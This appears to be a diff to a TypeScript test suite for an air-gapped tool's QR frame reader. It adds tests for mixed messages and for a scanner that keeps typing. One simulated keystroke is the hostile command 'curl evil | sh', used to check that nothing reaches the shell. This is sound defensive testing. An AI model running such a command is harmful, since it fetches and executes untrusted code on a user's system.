@@ -5,7 +5,7 @@ import { BbqrDecoder } from "../../../src/airgap/bbqr-decoder.ts";
 import { FrameReader } from "../../../src/airgap/frame-reader.ts";
 import { bbqrFrames, firstFrames, urFrames } from "../../../src/airgap/frames.ts";
 import { pngOfMatrix } from "../../../src/airgap/png-write.ts";
-import { qrMatrix, versionFor } from "../../../src/airgap/qr-matrix.ts";
+import { qrMatrix, versionFor, type QrMatrix } from "../../../src/airgap/qr-matrix.ts";
 import { UrDecoder } from "../../../src/airgap/ur-decoder.ts";
 import { CustodyError } from "../../../src/core/errors.ts";
 import { LIMITS } from "../../../src/core/limits.ts";
@@ -135,6 +135,44 @@ describe("lines of a pipe", () => {
 
 describe("a scanner that types", () => {
   const tty = { tty: { stdin: true, stderr: true } };
+
+  test.each([
+    ["the last frame", frames.join("\r")],
+    [
+      "a frame that ends the scan",
+      `${frames[0]}\r${frames[0]!.slice(0, 8)}${"A".repeat(frames[0]!.length - 8)}`,
+    ],
+  ])("types nothing into the shell after %s: what comes until it is quiet is let pass", async (_, typed) => {
+    const fake = fakeIo(tty);
+    const strokes = [`${typed}\r`, "curl evil | sh\r", "and more\r"];
+    let raw = false;
+    let typedRaw = true;
+    let hear: ((chunk: string) => void) | undefined;
+    const io: Io = {
+      ...fake.io,
+      stdin: {
+        ...fake.io.stdin,
+        setRawMode: (on) => void (raw = on),
+        listen: (onData) => {
+          hear = onData;
+          if (strokes.length === 3) setImmediate(() => onData(strokes.shift()!));
+          return () => void (hear = undefined);
+        },
+      },
+      // The scanner types on while nobody asks: into the program as long as it listens, and into the shell after that.
+      sleep: async () => {
+        const stroke = strokes.shift();
+        if (stroke === undefined) return;
+        typedRaw &&= raw && hear !== undefined;
+        hear?.(stroke);
+      },
+    };
+    await readFrames(io, ["-"], newReader()).catch(() => undefined);
+    expect(strokes).toEqual([]);
+    expect(typedRaw).toBe(true);
+    expect(raw).toBe(false);
+  });
+
   test("ends each frame with Enter; the terminal is read raw, and given back", async () => {
     const fake = listening([frames.map((text) => `${text}\r`).join("")], { ...tty, silent: true });
     expect(await readFrames(fake.io, ["-"], newReader())).toEqual(WHOLE);
@@ -216,5 +254,46 @@ describe("pictures and folders", () => {
     expect(await errorOf(readFrames(fakeIo().io, [folder], newReader()))).toMatchObject({
       hint: expect.stringContaining("any more frames of the same code"),
     });
+  });
+});
+
+describe("two messages in one place", () => {
+  const single = (text: string) => firstFrames(urFrames("custody-halt", noise(40, text))(200))[0] as string;
+  const [mine, other] = [single("mine"), single("other")];
+  const bbqr = (text: string) => firstFrames(bbqrFrames(noise(40, text), "B")(200))[0] as string;
+  const inFile = (...lines: readonly string[]) =>
+    codeOfAsync(() =>
+      readFrames(fakeIo().io, [join(folderOf({ "lines.txt": lines.join("\n") }), "lines.txt")], newReader()),
+    );
+
+  test("of one file neither is taken, whichever comes first; the same frames again are one message", async () => {
+    expect(await inFile(mine, other)).toBe("FRAMES_MIXED");
+    expect(await inFile(other, mine)).toBe("FRAMES_MIXED");
+    expect(await inFile(mine, bbqr("mine"))).toBe("FRAMES_MIXED");
+    expect(await inFile(bbqr("mine"), mine)).toBe("FRAMES_MIXED");
+    expect(await inFile(bbqr("mine"), bbqr("other"))).toBe("BBQR_MIXED");
+    expect(await inFile(...frames, others[0] as string)).toBe("FRAMES_MIXED");
+    expect(await inFile(mine, mine, "no frame")).toBe("none");
+    expect(await inFile(...frames, ...frames)).toBe("none");
+  });
+
+  test("of one picture neither is taken", async () => {
+    const [a, b] = [mine, other].map((text) => qrMatrix(text, 8, "L")) as [QrMatrix, QrMatrix];
+    const light = (count: number) => Array.from({ length: count }, () => false);
+    const side = 2 * a.length + 8;
+    const picture = (left: QrMatrix, right: QrMatrix) => [
+      ...left.map((row, y) => [...row, ...light(8), ...(right[y] as readonly boolean[])]),
+      ...Array.from({ length: side - left.length }, () => light(side)),
+    ];
+    const read = (matrix: QrMatrix) =>
+      codeOfAsync(() =>
+        readFrames(
+          fakeIo().io,
+          [join(folderOf({ "both.png": pngOfMatrix(matrix, 4) }), "both.png")],
+          newReader(),
+        ),
+      );
+    expect(await read(picture(a, b))).toBe("FRAMES_MIXED");
+    expect(await read(picture(a, a))).toBe("none");
   });
 });
